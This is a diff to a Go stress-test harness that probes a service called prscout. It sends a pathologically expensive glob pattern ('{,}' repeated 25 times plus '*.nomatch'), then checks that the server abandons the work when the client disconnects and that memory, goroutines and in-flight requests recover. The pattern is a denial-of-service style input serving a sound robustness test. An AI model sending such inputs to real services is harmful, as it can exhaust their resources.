+	// A costlier pattern whose client gives up after 2s: the request must
+	// not keep running on the server. First let the request above end (the
+	// scrape itself is the one request in flight then).
+	idle := time.Now().Add(*settle)
+	for time.Now().Before(idle) && srv.metric("prscout_http_requests_in_flight") > 1 {
+		time.Sleep(500 * time.Millisecond)
+	}
+	base = srv.metric("prscout_http_requests_in_flight")
+	slow := strings.Repeat("{,}", 25) + "*.nomatch"
+	a = post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": fx.mainSHA, "head": fx.featureSHA, "include": []string{slow}}, 2*time.Second)
+	if a.err == nil {
+		report(true, "client-gone-stops-work", "include {,}x25*.nomatch answered before the client left: %s", a)
+		return
+	}
+	deadline := time.Now().Add(3 * time.Second)
+	for time.Now().Before(deadline) && srv.metric("prscout_http_requests_in_flight") > base {
+		time.Sleep(100 * time.Millisecond)
+	}
+	left := srv.metric("prscout_http_requests_in_flight") - base
+	report(left <= 0, "client-gone-stops-work", "include {,}x25*.nomatch, client gone after 2s; 3s later %.0f request(s) still running on the server", max(left, 0))
+}
+
+// ---- final checks ----
+
+func finalChecks(srv *proc, baseGoroutines float64) {
+	client.CloseIdleConnections()
+	deadline := time.Now().Add(*settle)
+	var rss int
+	var g, running float64
+	alive := false
+	for {
+		resp, err := http.Get(srv.base + "/healthz")
+		alive = err == nil && resp.StatusCode == 200
+		if resp != nil {
+			resp.Body.Close()
+		}
+		rss = rssKB(srv.cmd.Process.Pid) / 1024
+		g = srv.metric("go_goroutines")
+		// The scrape itself is one request in flight.
+		running = srv.metric("prscout_http_requests_in_flight") - 1
+		client.CloseIdleConnections()
+		if !alive || (rss < *maxRSSMB && g <= baseGoroutines+2 && running <= 0) || time.Now().After(deadline) {
+			break
+		}
+		time.Sleep(time.Second)
+	}
+	report(alive, "server-alive", "GET /healthz after the run: %v", alive)
+	report(running <= 0, "requests-finished", "%.0f request(s) still running %s after the run", max(running, 0), round(time.Since(deadline.Add(-*settle))))
+	report(rss >= 0 && rss < *maxRSSMB, "rss-after", "RSS %d MB (limit %d MB)", rss, *maxRSSMB)
+	report(g >= 0 && g <= baseGoroutines+2, "goroutines-after", "%.0f goroutines (baseline %.0f)", g, baseGoroutines)
+}
+
+func must(err error) {
+	if err != nil {
+		fmt.Fprintln(os.Stderr, "abuse:", err)
+		os.Exit(2)
+	}
+}
